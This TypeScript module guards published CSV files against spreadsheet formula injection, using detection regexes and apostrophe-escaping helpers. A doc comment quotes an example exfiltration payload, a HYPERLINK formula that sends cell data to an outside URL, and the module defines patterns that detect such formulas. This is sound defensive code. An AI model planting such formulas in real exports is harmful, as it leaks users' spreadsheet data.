/**
 * Cells a spreadsheet would run as a formula ("CSV injection", OWASP): Excel and LibreOffice Calc read a
 * CSV cell that starts with `=`, `+`, `-` or `@` as a formula (the project also treats as such a sign after
 * leading spaces, and the full-width forms ＝ ＋ － ＠, which some input methods and versions fold to the
 * ASCII sign)
 * (`=HYPERLINK("http://…?d="&A1,"Ver fuente")` sends the sheet's data away when clicked); a tab or a carriage
 * return at the start hides the sign from a person reading the cell. The registry refuses such text (see
 * `loaders/registry/cell.ts`), and every published CSV writes whatever still reaches it with a leading
 * apostrophe (see {@link protectCell}), which both programs show as text.
 */

/** What may start a formula: `=`, `+`, `-`, `@` and their full-width forms, after any leading whitespace. */
const FORMULA_SIGN = /^[\s\p{Cf}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;

/** A plain number (`-3`, `+2.5`, `1e-7`): a spreadsheet reads it as that number, never as a formula. */
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$/;

/**
 * True when a spreadsheet could take the text for a formula: it starts — after any spaces or invisible
 * characters — with `=`, `+`, `-`, `@` (or their full-width forms), or it starts with a tab or a carriage
 * return. Plain numbers are not exempt here: in a text column, "-5" is text and must stay text.
 */
export function formulaLike(text: string): boolean {
  return FORMULA_SIGN.test(text) || text.startsWith("\t") || text.startsWith("\r");
}

/**
 * True when a CSV cell, whatever its column, would run as a formula: {@link formulaLike} and not a plain
 * number (`-3` in a number column is a number). What `scripts/stable-downloads.ts` checks every published
 * CSV against.
 */
export function runsAsFormula(cell: string): boolean {
  return formulaLike(cell) && !PLAIN_NUMBER.test(cell);
}

/** The apostrophe written before a formula-like text in published CSVs. */
export const FORMULA_GUARD = "'";

/**
 * A text cell as published CSVs write it: unchanged, except that a {@link formulaLike} value — and, so that
 * the rule can be undone without doubt, a value that already starts with an apostrophe — gets an
 * apostrophe in front (`=1+1` → `'=1+1`; `'hola` → `''hola`). Excel and LibreOffice show such a cell as
 * text; a program that reads the CSV gets the original value back by removing that one apostrophe
 * ({@link unprotectCell}). Parquet files hold the values unchanged.
 */
export function protectCell(text: string): string {
  return formulaLike(text) || text.startsWith(FORMULA_GUARD) ? `${FORMULA_GUARD}${text}` : text;
}

/** The inverse of {@link protectCell}: the value as it was before the apostrophe was added. */
export function unprotectCell(text: string): string {
  return text.startsWith(FORMULA_GUARD) && protectCell(text.slice(1)) === text ? text.slice(1) : text;
}
